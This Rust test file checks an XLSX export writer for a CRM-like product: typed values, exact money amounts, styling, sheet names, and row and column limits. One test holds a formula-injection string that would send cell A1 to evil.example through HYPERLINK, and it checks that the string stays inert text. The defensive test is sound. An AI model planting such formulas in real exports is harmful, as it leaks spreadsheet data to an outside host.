//! XLSX read back with calamine (values, types, formulas) and, for what calamine cannot read
//! (frozen panes, autofilter, widths, formats), from the sheet XML itself.

mod common;

use calamine::{Data, DataType};
use common::*;
use orbita_domain::org::Locale;
use orbita_export::{Cell, Column, ColumnKind, ExportError, ExportWriter, Format};

fn cell(values: &calamine::Range<Data>, row: u32, col: u32) -> Data {
    values.get_value((row, col)).cloned().unwrap_or(Data::Empty)
}

#[test]
fn headers_and_typed_values_read_back() {
    let bytes = export(Format::Xlsx, Locale::Ru, columns(), &rows());
    let back = read_xlsx(&bytes);
    assert_eq!(back.sheet_names, ["Компании"]);
    let v = &back.values;
    assert_eq!(v.start(), Some((0, 0)));
    // Header, four rows; the all-empty row 3 is kept as a gap.
    assert_eq!(v.end(), Some((4, 5)));

    let headers: Vec<Data> = (0..6).map(|c| cell(v, 0, c)).collect();
    let expected = ["Компания", "Сделок", "Сумма", "Конверсия", "Создана", "Последнее касание"];
    assert_eq!(headers, expected.map(|h| Data::String(h.into())));

    assert_eq!(cell(v, 1, 0), Data::String("ООО «Ромашка»".into()));
    assert_eq!(cell(v, 1, 1), Data::Float(42.0));
    assert_eq!(cell(v, 1, 2), Data::Float(1_500_000.5));
    assert_eq!(cell(v, 1, 3), Data::Float(0.4235));
    assert_eq!(cell(v, 1, 4).as_datetime(), Some(date(2025, 12, 31).and_hms_opt(0, 0, 0).expect("time")));
    assert!(matches!(cell(v, 1, 4), Data::DateTime(_)), "a date is a date: {:?}", cell(v, 1, 4));
    assert_eq!(cell(v, 1, 5).as_datetime(), Some(at(2025, 12, 31, 23, 59, 5)));

    assert_eq!(cell(v, 2, 1), Data::Float(-7.0));
    assert_eq!(cell(v, 2, 2), Data::Float(0.07));
    assert_eq!(cell(v, 2, 3), Data::Float(1.0));
    assert_eq!(cell(v, 2, 4).as_datetime(), Some(at(1900, 1, 1, 0, 0, 0)));
    assert_eq!(cell(v, 2, 5).as_datetime(), Some(at(2024, 2, 29, 0, 0, 0)));

    for col in 0..6 {
        assert_eq!(cell(v, 3, col), Data::Empty);
    }

    // Beyond what a double or Excel's calendar holds: exact text instead.
    assert_eq!(cell(v, 4, 1), Data::String(i64::MAX.to_string()));
    assert_eq!(cell(v, 4, 4), Data::String("1899-12-31".into()));
    assert_eq!(cell(v, 4, 5), Data::String("+10000-01-01 12:00".into()));
    assert_eq!(cell(v, 4, 3), Data::Float(-0.005));
}

#[test]
fn money_is_exact_to_the_kopeck() {
    let amounts = [0, 1, 7, 10, 99, 150_000_050, 12_345_678_901, 9_999_999_999_999, 99_999_999_999_999_999];
    let columns = vec![Column::new("Сумма", ColumnKind::Money)];
    let rows: Vec<Vec<Cell>> = amounts.iter().map(|&minor| vec![rub(minor)]).collect();
    let back = read_xlsx(&export(Format::Xlsx, Locale::Ru, columns, &rows));
    for (row, minor) in (1..).zip(amounts) {
        let Data::Float(value) = cell(&back.values, row, 0) else { panic!("row {row} is a number") };
        // The largest amount Money parses has 17 digits, beyond a double's ~15.9: the kopeck
        // is exact up to 2^53 kopecks (≈ 90 trillion roubles), the documented limit.
        if minor < 1 << 53 {
            assert_eq!((value * 100.0).round() as i64, minor, "row {row}");
        } else {
            assert!((value * 100.0 - minor as f64).abs() <= 16.0, "row {row}");
        }
    }
}

#[test]
fn formula_like_text_stays_text() {
    let bytes = export(Format::Xlsx, Locale::Ru, columns(), &rows());
    let back = read_xlsx(&bytes);
    assert_eq!(
        cell(&back.values, 2, 0),
        Data::String("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into())
    );
    assert_eq!(cell(&back.values, 4, 0), Data::String("+7 916 123-45-67".into()));
    assert!(back.formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "no formulas at all");
    assert!(!xlsx_part(&bytes, "xl/worksheets/sheet1.xml").contains("<f>"));
    // No literal `'` in the cell: Excel's quote-prefix style keeps it text when edited.
    assert!(xlsx_part(&bytes, "xl/styles.xml").contains(r#"quotePrefix="1""#));
}

#[test]
fn header_is_bold_frozen_and_filtered_and_columns_are_sized() {
    let bytes = export(Format::Xlsx, Locale::Ru, columns(), &rows());
    let sheet = xlsx_part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(
        sheet.contains(r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#),
        "{sheet}"
    );
    // The filter covers the header and every data row.
    assert!(sheet.contains(r#"<autoFilter ref="A1:F5"/>"#), "{sheet}");
    assert!(sheet.contains(r#"<ignoredError sqref="A2:F5" numberStoredAsText="1"/>"#), "{sheet}");
    // Widths in Excel's units: 30 characters of Calibri 11 are 30.7109375 (rust_xlsxwriter
    // rounds to whole pixels and adds the cell padding, as Excel does).
    let widths =
        [(1, "30.7109375"), (2, "10.7109375"), (3, "16.7109375"), (4, "12.28515625"), (6, "17.7109375")];
    for (col, width) in widths {
        assert!(
            sheet.contains(&format!(r#"<col min="{col}" max="{col}" width="{width}""#)),
            "col {col}: {sheet}"
        );
    }
    let styles = xlsx_part(&bytes, "xl/styles.xml");
    assert!(styles.contains("<b/>"), "{styles}");
    for format in ["#,##0.00 &quot;₽&quot;", "0.00%", "dd.mm.yyyy", "dd.mm.yyyy hh:mm", "formatCode=\"0\""]
    {
        assert!(styles.contains(format), "{format}: {styles}");
    }
}

#[test]
fn english_formats() {
    let mut rows = rows();
    rows[1][2] = Cell::Money(orbita_domain::validation::Money::from_minor(
        7,
        orbita_domain::validation::Currency::USD,
    ));
    let bytes = export(Format::Xlsx, Locale::En, columns(), &rows);
    let styles = xlsx_part(&bytes, "xl/styles.xml");
    for format in ["&quot;RUB&quot; #,##0.00", "&quot;$&quot;#,##0.00", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"] {
        assert!(styles.contains(format), "{format}: {styles}");
    }
    let back = read_xlsx(&bytes);
    assert_eq!(cell(&back.values, 1, 5).as_datetime(), Some(at(2025, 12, 31, 23, 59, 5)));
    assert_eq!(cell(&back.values, 1, 2), Data::Float(1_500_000.5));
}

#[test]
fn header_only_export() {
    let bytes = export(Format::Xlsx, Locale::Ru, columns(), &[]);
    let back = read_xlsx(&bytes);
    assert_eq!(back.values.end(), Some((0, 5)));
    assert!(xlsx_part(&bytes, "xl/worksheets/sheet1.xml").contains(r#"<autoFilter ref="A1:F1"/>"#));
}

#[test]
fn sheet_name_is_repaired() {
    let out = Vec::new();
    let columns = vec![Column::new("=x", ColumnKind::Text)];
    let writer = ExportWriter::new(Format::Xlsx, "Отчёт 01/2025: O'Brien [Q1]", columns, Locale::Ru, out)
        .expect("starts");
    let (_, bytes) = writer.finish_into_inner().expect("finishes");
    let back = read_xlsx(&bytes);
    assert_eq!(back.sheet_names, ["Отчёт 01_2025_ O'Brien _Q1_"]);
    // Headers are neutralised too: they may one day be user-named custom fields.
    assert_eq!(cell(&back.values, 0, 0), Data::String("=x".into()));
}

#[test]
fn long_text_is_cut_not_refused() {
    let columns = vec![Column::new("Заметка", ColumnKind::Text)];
    let long = "я".repeat(40_000);
    let back = read_xlsx(&export(Format::Xlsx, Locale::Ru, columns, &[vec![text(&long)]]));
    let Data::String(value) = cell(&back.values, 1, 0) else { panic!("text") };
    assert_eq!(value.chars().count(), 32_767);
    assert!(value.ends_with('…'));
}

#[test]
fn bad_rows_are_refused_and_the_writer_goes_on() {
    let mut writer = ExportWriter::new(Format::Xlsx, "x", columns(), Locale::Ru, Vec::new()).expect("starts");
    let err = writer.write_row(&[text("a")]).expect_err("short row");
    assert!(matches!(err, ExportError::RowLength { expected: 6, got: 1 }), "{err}");
    let mut swapped = rows()[0].clone();
    swapped.swap(4, 5);
    let err = writer.write_row(&swapped).expect_err("swapped columns");
    assert!(
        matches!(&err, ExportError::CellKind { index: 4, header, expected: ColumnKind::Date, got: ColumnKind::DateTime } if header == "Создана"),
        "{err}"
    );
    assert_eq!(writer.rows_written(), 0);
    writer.write_row(&rows()[0]).expect("a good row still goes in");
    let (written, bytes) = writer.finish_into_inner().expect("finishes");
    assert_eq!(written, 1);
    assert_eq!(cell(&read_xlsx(&bytes).values, 1, 1), Data::Float(42.0));

    let err = ExportWriter::new(Format::Xlsx, "x", Vec::new(), Locale::Ru, Vec::new()).err();
    assert!(matches!(err, Some(ExportError::NoColumns)));
    let wide = vec![Column::new("c", ColumnKind::Text); 16_385];
    let err = ExportWriter::new(Format::Xlsx, "x", wide, Locale::Ru, Vec::new()).err();
    assert!(matches!(err, Some(ExportError::TooManyColumns { count: 16_385, max: 16_384 })));
}

#[test]
fn rows_beyond_excel_are_refused() {
    let columns = vec![Column::new("c", ColumnKind::Text)];
    let mut writer = ExportWriter::new(Format::Xlsx, "x", columns, Locale::Ru, Vec::new()).expect("starts");
    // Empty cells write nothing, so this only exercises the row count.
    for _ in 0..orbita_export::MAX_XLSX_ROWS {
        writer.write_row(&[Cell::Empty]).expect("fits");
    }
    let err = writer.write_row(&[Cell::Empty]).expect_err("one too many");
    assert!(matches!(err, ExportError::TooManyRows { max: 1_048_575 }), "{err}");
    assert_eq!(writer.finish().expect("finishes"), 1_048_575);
}

#[test]
fn writes_to_a_file_and_spools_in_the_given_dir() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("companies.xlsx");
    let file = std::fs::File::create(&path).expect("file");
    let mut writer =
        ExportWriter::new_with_tempdir(Format::Xlsx, "Компании", columns(), Locale::Ru, file, dir.path())
            .expect("starts");
    for row in rows() {
        writer.write_row(&row).expect("row");
    }
    assert_eq!(writer.finish().expect("finishes"), 4);
    let bytes = std::fs::read(&path).expect("read back");
    assert_eq!(read_xlsx(&bytes).values.end(), Some((4, 5)));

    let missing = dir.path().join("missing");
    let err = ExportWriter::new_with_tempdir(Format::Xlsx, "x", columns(), Locale::Ru, Vec::new(), &missing);
    assert!(matches!(err, Err(ExportError::Xlsx(_))));
}

#[test]
fn writer_and_error_cross_threads() {
    fn send<T: Send>() {}
    fn error<T: std::error::Error + Send + Sync + 'static>() {}
    send::<ExportWriter>();
    send::<ExportWriter<Vec<u8>>>();
    error::<ExportError>();
}
